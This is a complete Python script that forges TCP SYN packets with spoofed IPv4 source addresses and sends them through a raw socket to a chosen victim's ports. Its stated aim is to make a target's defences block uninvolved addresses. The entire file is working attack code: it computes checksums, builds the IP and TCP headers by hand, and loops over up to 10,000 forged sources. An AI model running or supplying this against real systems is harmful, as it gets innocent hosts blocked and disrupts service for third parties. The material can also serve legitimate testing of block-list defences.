#!/usr/bin/env python3
"""Sends forged TCP SYNs: COUNT sources FIRST, FIRST+1, ... each reaching PORTS of VICTIM, as a spoofing attacker
would to get uninvolved addresses blocked. IPv4 only, through a raw socket (root). Bounded: at most 10,000 sources.

Usage: forge_syns.py VICTIM FIRST-SOURCE COUNT PORT...
"""
import ipaddress
import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: str, victim: str, sport: int, dport: int) -> bytes:
    src, dst = socket.inet_aton(source), socket.inet_aton(victim)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    tcp_sum = checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", tcp_sum) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    victim, first, count = sys.argv[1], ipaddress.IPv4Address(sys.argv[2]), int(sys.argv[3])
    ports = [int(p) for p in sys.argv[4:]]
    if not 0 < count <= 10_000 or not ports:
        print("usage: forge_syns.py VICTIM FIRST-SOURCE COUNT PORT... (COUNT at most 10000)", file=sys.stderr)
        return 2
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for index in range(count):
        source = str(first + index)
        for port in ports:
            sock.sendto(syn(source, victim, 40000 + index % 20000, port), (victim, 0))
    print(f"sent {count * len(ports)} SYNs from {count} sources", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
